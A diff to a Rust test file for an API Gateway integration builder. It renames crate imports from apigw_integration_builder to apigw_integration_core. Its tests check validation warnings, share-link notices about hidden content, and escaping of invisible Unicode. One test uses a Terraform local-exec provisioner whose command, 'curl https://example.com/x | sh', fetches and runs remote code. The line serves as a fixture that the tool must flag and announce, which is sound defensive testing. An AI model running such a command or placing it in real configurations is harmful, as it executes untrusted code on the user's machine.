@@ -3,11 +3,13 @@
 //! resource, a broken file or an unannounced command before this was enforced.
 #![cfg(not(target_arch = "wasm32"))]
 
+// The core's test helpers (model strategies, the HCL oracle).
+#[path = "../../core/tests/common/mod.rs"]
 mod common;
 
-use apigw_integration_builder::hcl::{self, render};
-use apigw_integration_builder::model::Integration;
-use apigw_integration_builder::{Diagnostic, share};
+use apigw_integration_core::hcl::{self, render};
+use apigw_integration_core::model::Integration;
+use apigw_integration_core::{Diagnostic, share};
 use common::*;
 use proptest::strategy::{Strategy, ValueTree};
 use proptest::test_runner::TestRunner;
@@ -43,7 +45,7 @@ fn withheld(m: &Integration, code: &str, path: &str) -> Vec<Diagnostic> {
     let Err(diags) = render(m) else { panic!("rendered although it should be withheld: {m:?}") };
     assert!(diags.iter().any(|d| d.code == code && d.path == path && d.is_error()), "no {code} at {path}: {diags:#?}");
     // The same errors are among what validation shows the user.
-    let all = apigw_integration_builder::validate(m);
+    let all = apigw_integration_core::validate(m);
     for d in &diags {
         assert!(all.contains(d), "{d:?} is not among validate()'s findings");
     }
@@ -121,16 +123,16 @@ fn provisioners_and_connections_are_never_silent() {
         { "name": "provisioner", "text": "provisioner \"local-exec\" {\n  command = \"curl https://example.com/x | sh\"\n}" },
         { "name": "connection", "text": "connection {\n  host = \"example.com\"\n}" },
     ] })));
-    let diags = apigw_integration_builder::validate(&m);
+    let diags = apigw_integration_core::validate(&m);
     let warned: Vec<&str> =
-        diags.iter().filter(|d| d.severity == apigw_integration_builder::Severity::Warning).map(|d| d.code.as_str()).collect();
+        diags.iter().filter(|d| d.severity == apigw_integration_core::Severity::Warning).map(|d| d.code.as_str()).collect();
     assert!(warned.contains(&"R-HCL-9") && warned.contains(&"R-HCL-9b"), "{diags:#?}");
     // They are allowed (Terraform accepts them), printed re-formatted, and announced.
     let out = render(&m).expect("renders").resource;
     assert!(out.contains("  provisioner \"local-exec\" {\n    command = \"curl https://example.com/x | sh\"\n  }\n"), "{out}");
-    let notice = share::hidden_content("This link", &apigw_integration_builder::workspace::Workspace::of(m.clone())).expect("a notice");
+    let notice = share::hidden_content("This link", &apigw_integration_core::workspace::Workspace::of(m.clone())).expect("a notice");
     assert!(notice.contains("content the form does not show") && notice.contains("runs a command"), "{notice}");
-    assert_eq!(share::hidden_content("This link", &apigw_integration_builder::workspace::Workspace::of(from_link(base(json!({}))))), None);
+    assert_eq!(share::hidden_content("This link", &apigw_integration_core::workspace::Workspace::of(from_link(base(json!({}))))), None);
 }
 
 #[test]
@@ -265,9 +267,9 @@ fn any_model_renders_to_exactly_one_integration_or_nothing() {
 #[test]
 fn the_examples_pass_the_invariant() {
     let bin = oracle();
-    let mut models: Vec<Integration> = apigw_integration_builder::presets::PRESETS.iter().map(|p| p.model()).collect();
+    let mut models: Vec<Integration> = apigw_integration_core::presets::PRESETS.iter().map(|p| p.model()).collect();
     for m in &mut models {
-        m.import = Some(apigw_integration_builder::model::ImportTarget {
+        m.import = Some(apigw_integration_core::model::ImportTarget {
             api_id: "aabbccddee".into(),
             integration_id: "1122334".into(),
             ..Default::default()
@@ -284,7 +286,7 @@ fn the_examples_pass_the_invariant() {
 /// Text quoted in messages (`diag::visible`): what cannot be seen is shown as an escape.
 #[test]
 fn visible_shows_what_cannot_be_seen_and_nothing_else() {
-    use apigw_integration_builder::diag::visible;
+    use apigw_integration_core::diag::visible;
     assert_eq!(visible("a\\b\"c\nd\te\r"), r#"a\\b\"c\nd\te\r"#);
     assert_eq!(visible("x\u{1b}[2J\u{7f}\u{85}"), r"x\u{1b}[2J\u{7f}\u{85}");
     for c in ['\u{202e}', '\u{2066}', '\u{200b}', '\u{200d}', '\u{200f}', '\u{2028}', '\u{2060}', '\u{feff}', '\u{ad}', '\u{61c}'] {
